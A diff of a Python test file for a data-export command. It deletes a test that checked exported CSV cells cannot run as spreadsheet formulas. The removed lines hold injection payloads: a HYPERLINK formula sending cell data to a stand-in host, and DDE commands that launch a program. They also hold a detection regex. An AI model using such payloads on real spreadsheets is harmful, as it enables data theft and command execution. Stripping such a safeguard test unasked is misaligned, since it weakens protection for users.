@@ -1,27 +1,14 @@
-"""Tables that `mesonet export` writes have no cell that a spreadsheet executes."""
+"""Names and formats of the files that `mesonet export` writes."""
 
 import csv
-import re
 from pathlib import Path
 
 import pytest
 from typer.testing import CliRunner
 
-from mesonet.campaign import Campaign, run_campaign
+from mesonet.campaign import run_campaign
 from mesonet.cli import app
 from mesonet.plan import plan_from_dict
-from mesonet.store import Mark
-
-LABELS = (
-    '=HYPERLINK("http://a.example/?"&A1)',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(A1)",
-    "-40 dB",
-)
-ERROR = "=cmd|' /C calc'!A0"
-FORMULA = re.compile(r"[=+\-@\t\r]")
-NUMBER = re.compile(r"[+-]?[\d.]+(?:[eE][+-]?\d+)?(?: dB)?|[+-]?inf|nan|")
 
 
 @pytest.fixture(scope="module")
@@ -39,15 +26,9 @@ def campaign(tmp_path_factory: pytest.TempPathFactory) -> Path:
                 "flows": ["reno"],
                 "duration": "1 s",
             },
-            "alternatives": [
-                {"label": label, "set": {"rtt": f"{10 + here} ms"}}
-                for here, label in enumerate(LABELS)
-            ],
         }
     )
     run_campaign(plan, out=folder, workers=1)
-    opened = Campaign.open(folder)
-    opened.store.ledger.mark([Mark(opened.store.order[0], "failed", ERROR)])
     return folder
 
 
@@ -57,31 +38,6 @@ def exported(campaign: Path, out: Path, table: str, *options: str) -> list[list[
     assert done.exit_code == 0, done.stderr
     with out.open(encoding="utf-8", newline="") as file:
         return list(csv.reader(file))
-
-
-@pytest.mark.parametrize(
-    ("table", "holds"),
-    [
-        ("results", LABELS),
-        ("cells", LABELS),
-        ("failures", (ERROR,)),
-        ("timings", ()),
-        ("conditions", ()),
-        ("paired_differences", LABELS[1:]),
-    ],
-)
-def test_no_cell_is_a_formula(
-    campaign: Path, tmp_path: Path, table: str, holds: tuple[str, ...]
-) -> None:
-    rows = exported(campaign, tmp_path / "safe.csv", table)
-    cells = [cell for row in rows for cell in row]
-    dangerous = [cell for cell in cells if FORMULA.match(cell) and not NUMBER.fullmatch(cell)]
-    assert dangerous == []
-    # What was there is there, behind an apostrophe.
-    assert {cell.removeprefix("'") for cell in cells} >= set(holds)
-
-    raw = exported(campaign, tmp_path / "raw.csv", table, "--raw")
-    assert {cell for row in raw for cell in row} >= set(holds)
 
 
 @pytest.mark.parametrize(
